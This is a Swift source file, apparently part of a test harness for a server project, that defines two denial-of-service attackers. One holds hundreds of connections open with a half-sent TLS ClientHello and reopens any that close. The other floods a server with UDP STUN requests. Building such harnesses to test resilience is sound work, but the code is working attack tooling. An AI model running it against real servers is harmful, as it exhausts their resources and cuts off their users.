import BodkinCore
import BodkinTransport
import NIOCore
import NIOPosix

/// An attacker that holds connections without proving anything, and opens another one for each that is closed.
struct Squatter: Sendable {
    /// Connections of one attacker at once, and from one of its addresses.
    private static let (count, perSource) = (500, 50)
    /// The beginning of a ClientHello that never goes on.
    static let halfHello: [UInt8] = [0x16, 3, 1, 2, 0, 1, 0, 1, 0xFC, 3, 3, 1, 2, 3]

    private let server: Endpoint
    private let words: [UInt8]
    private let tally: AttackTally

    init(to server: Endpoint, saying words: [UInt8], _ tally: AttackTally) {
        self.server = server
        self.words = words
        self.tally = tally
    }

    /// Squats until `end`.
    func run(_ number: Int, until end: NIODeadline) async throws {
        await withTaskGroup(of: Void.self) { tasks in
            for index in 0..<Self.count { tasks.addTask { await hold(Attackers.source(number, index / Self.perSource), until: end) } }
        }
    }

    private func hold(_ source: IPAddress, until end: NIODeadline) async {
        while NIODeadline.now() < end {
            let loop = MultiThreadedEventLoopGroup.singleton.next()
            let words = words
            do {
                let (local, remote) = (try SocketAddress(Endpoint(source, 0)), try SocketAddress(server))
                let channel = try await ClientBootstrap(group: loop).bind(to: local).connect(to: remote).get()
                tally.connected()
                tally.sent(1)
                channel.writeAndFlush(ByteBuffer(bytes: words), promise: nil)
                let timer = loop.scheduleTask(deadline: end) { channel.close(promise: nil) }
                try await channel.closeFuture.get()
                timer.cancel()
            } catch {
                try? await Task.sleep(for: .milliseconds(20))
            }
        }
    }
}

/// An attacker that sends STUN requests over UDP as fast as its socket takes them.
struct DatagramFlood: Sendable {
    private let server: Endpoint
    private let tally: AttackTally

    init(to server: Endpoint, _ tally: AttackTally) { (self.server, self.tally) = (server, tally) }

    /// Floods until `end`.
    func run(from source: IPAddress, until end: NIODeadline) async throws {
        let loop = MultiThreadedEventLoopGroup.singleton.next()
        let remote = try SocketAddress(server)
        let channel = try await DatagramBootstrap(group: loop).bind(to: SocketAddress(Endpoint(source, 0))).get()
        let request: [UInt8] = [0, 1, 0, 0, 0x21, 0x12, 0xA4, 0x42, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12]
        while NIODeadline.now() < end {
            for _ in 0..<63 { channel.write(AddressedEnvelope(remoteAddress: remote, data: ByteBuffer(bytes: request)), promise: nil) }
            tally.sent(64)
            // What the socket does not take is dropped.
            try? await channel.writeAndFlush(AddressedEnvelope(remoteAddress: remote, data: ByteBuffer(bytes: request))).get()
        }
        try await channel.close().get()
    }
}
